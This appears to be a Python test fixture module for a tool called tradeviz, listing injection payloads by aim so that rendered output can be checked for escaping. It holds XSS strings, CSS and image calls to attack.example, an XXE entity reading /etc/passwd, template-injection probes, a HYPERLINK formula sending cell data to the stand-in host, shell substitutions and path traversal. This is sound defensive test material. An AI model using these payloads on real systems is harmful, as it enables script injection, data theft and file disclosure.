"""What an attacker would write into a cell or a parameter, by what it is meant to reach.

Each payload that runs sets CANARY in the page or asks for something at HOST. All are plain text to
a reader, so they may be shown as they are; nothing may come of them.
"""

from __future__ import annotations

CANARY = "tradevizCanary"
HOST = "attack.example"

_RUN = f"window.{CANARY}=1"

PAYLOADS: dict[str, str] = {
    "script": f"<script>{_RUN}</script>",
    "script from afar": f"<script src=https://{HOST}/a.js></script>",
    "out of an attribute": f'"><script>{_RUN}</script><b title="',
    "out of a quoted attribute": f"' onmouseover='{_RUN}' x='",
    "handler": f"<img src=x onerror={_RUN}>",
    "picture from afar": f"<img src=https://{HOST}/a.png>",
    "SVG": f"<svg onload={_RUN}><circle r=9></svg>",
    "SVG that ends": f"</text></svg><svg><script>{_RUN}</script></svg>",
    "MathML": f"<math><mtext><style><img src=x onerror={_RUN}></style></mtext></math>",
    "style": f"<style>*{{background:url(https://{HOST}/a.css)}}</style>",
    "style that ends": f"</style><script>{_RUN}</script>",
    "CSS": f"}}body{{background:url(https://{HOST}/b.css)}}@import 'https://{HOST}/c.css';",
    "style attribute": f"<b style=\"background:url('https://{HOST}/d.png')\">x</b>",
    "frame": f'<iframe srcdoc="<script>parent.{CANARY}=1</script>"></iframe>',
    "object": f"<object data=https://{HOST}/a.svg></object><embed src=https://{HOST}/b.svg>",
    "link": f"<link rel=stylesheet href=https://{HOST}/e.css><base href=https://{HOST}/>",
    "refresh": f"<meta http-equiv=refresh content='0;url=https://{HOST}/'>",
    "form": f"<form action=https://{HOST}/><button autofocus onfocus={_RUN}>x</button></form>",
    "end of details": f"</details></figure></section></main><script>{_RUN}</script>",
    "end of title": f"</title></head><script>{_RUN}</script>",
    "comment": f"--><script>{_RUN}</script><!--",
    "our own marks": "<!--tradeviz:nav--><!--tradeviz:data gaps--><!--/tradeviz:nav-->",
    "CDATA": f"]]><script>{_RUN}</script><![CDATA[",
    "XML": "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "entities": "&lt;script&gt; &amp;lt; &#60;script&#62; &nbsp;",
    "Markdown link": f"[click](javascript:{_RUN}) ![x](https://{HOST}/f.png)",
    "Markdown": "**bold** _slant_ `code` # head | cell | <b>x</b>",
    "address": f"javascript:{_RUN}",
    "data address": f"data:text/html,<script>{_RUN}</script>",
    "template": "{{ 7*7 }} {% for x in y %} {# gone #} ${7*7} #{7*7} <%= 7*7 %>",
    "template that reaches": "{{ self.__init__.__globals__ }} {{ config }}",
    "mathtext": r"$\frac{1}{0}$ costs $5 and $\notacommand{x}$",
    "mathtext unclosed": r"$ \alpha_{ ^ $$ x_1^2 \$",
    "MathJax": r"\(x\) \[y\] $$z$$ \href{javascript:alert(1)}{q} \unicode{x}",
    "format": "%s %(name)s {0} {name!r} {:>9999} %n",
    "formula": f'=HYPERLINK("https://{HOST}/?"&A1,"click")',
    "shell": "$(touch canary) `touch canary`; touch canary | touch canary && touch canary",
    "path": "../../../../etc/passwd",
    "terminal": "\\x1b]0;owned\\x07 \\033[2J",
    "widget": '{"application/vnd.jupyter.widget-view+json": {"model_id": "x"}}',
    "other scripts": "שלום عليكم 你好 สวัสดี 🚢📈",
}
"""Payloads by their aim."""
